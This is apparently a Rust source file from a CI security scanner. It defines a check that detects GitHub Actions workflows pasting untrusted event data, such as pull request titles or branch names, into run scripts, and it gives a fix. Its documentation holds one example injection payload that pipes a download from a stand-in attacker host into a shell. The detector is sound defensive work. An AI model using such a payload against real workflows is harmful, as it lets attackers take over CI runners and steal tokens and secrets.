use rempart_core::Finding;
use serde_json::Value;

use super::Context;
use super::expressions::{expressions, properties};
use crate::check::check_doc;

check_doc! {
    code: "CI-GHA-TEMPLATE-INJECTION",
    title: "Untrusted event data expanded into a script",
    severity: Critical,
    target: Workflow,
    doc: "A `run:` script (or the `script:` of `actions/github-script`) contains an expression \
whose value anyone can choose: an issue, pull request, comment or review title or body, a \
branch name (`github.head_ref`, `pull_request.head.ref`), a commit message or author, a page \
name; and, in workflows outsiders start (pull requests, comments, issues), the outputs of \
earlier steps, which carry what they read from the event (the names of the files a pull request \
changed).\n\n\
Why: the runner pastes the value into the script before the shell reads it, so a pull request \
titled `\"; curl evil.example | sh; \"` runs that command on the runner, with the job's token \
and secrets.\n\n\
Fix: pass the value through an environment variable (`env: {TITLE: ${{ github.event.issue.title }}}` \
then `\"$TITLE\"` in the script), where the shell treats it as data.\n\n\
Example: `run: echo \"${{ github.event.pull_request.title }}\"`.",
}

/// Properties an outside contributor controls, as normalized by `properties` (`*` for any
/// index). A prefix ends with `.`.
const UNTRUSTED: &[&str] = &[
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.head_ref",
];

/// Events an outsider can cause (a pull request, a comment, an issue): in workflows they
/// start, a step's outputs may carry what the outsider wrote (the names of the files a pull
/// request changed, a parsed comment).
const OUTSIDER_TRIGGERS: &[&str] = &[
    "pull_request",
    "pull_request_target",
    "issue_comment",
    "issues",
    "discussion",
    "discussion_comment",
    "pull_request_review",
    "pull_request_review_comment",
    "workflow_run",
];

fn untrusted(property: &str, outsider_run: bool) -> bool {
    UNTRUSTED.contains(&property)
        || (outsider_run && property.starts_with("steps.") && property.contains(".outputs."))
}

/// The untrusted properties `text` expands.
fn injected(text: &str, outsider_run: bool) -> Vec<String> {
    let mut found: Vec<String> = expressions(text)
        .into_iter()
        .flat_map(properties)
        .filter(|property| untrusted(property, outsider_run))
        .collect();
    found.dedup();
    found
}

pub(super) fn run(context: &Context<'_>, out: &mut Vec<Finding>) {
    let outsider_run = context
        .triggers()
        .iter()
        .any(|trigger| OUTSIDER_TRIGGERS.contains(trigger));
    for job in &context.jobs {
        for (index, step) in job.steps().iter().enumerate() {
            let script = step.get("run").and_then(Value::as_str).or_else(|| {
                let uses = step.get("uses").and_then(Value::as_str)?;
                uses.starts_with("actions/github-script@")
                    .then(|| step.get("with")?.get("script")?.as_str())
                    .flatten()
            });
            let Some(script) = script else {
                continue;
            };
            for property in injected(script, outsider_run) {
                let name = step.get("name").and_then(Value::as_str);
                let step_label = name.map_or_else(|| format!("step {}", index + 1), str::to_owned);
                out.push(context.finding(
                    &CHECK,
                    context.line_of(&format!("{}:", job.id), &property_spelling(script, &property)),
                    format!("job {} ({step_label})", job.id),
                    format!(
                        "${{{{ {property} }}}} is expanded into the script; pass it through env: and use \"$VAR\""
                    ),
                ));
            }
        }
    }
}

/// A piece of the script that names the property, to find its line.
fn property_spelling(script: &str, property: &str) -> String {
    let last = property.rsplit('.').next().unwrap_or(property);
    script
        .lines()
        .find(|line| line.contains("${{") && line.to_ascii_lowercase().contains(last))
        .map_or_else(|| last.to_owned(), |line| line.trim().to_owned())
}
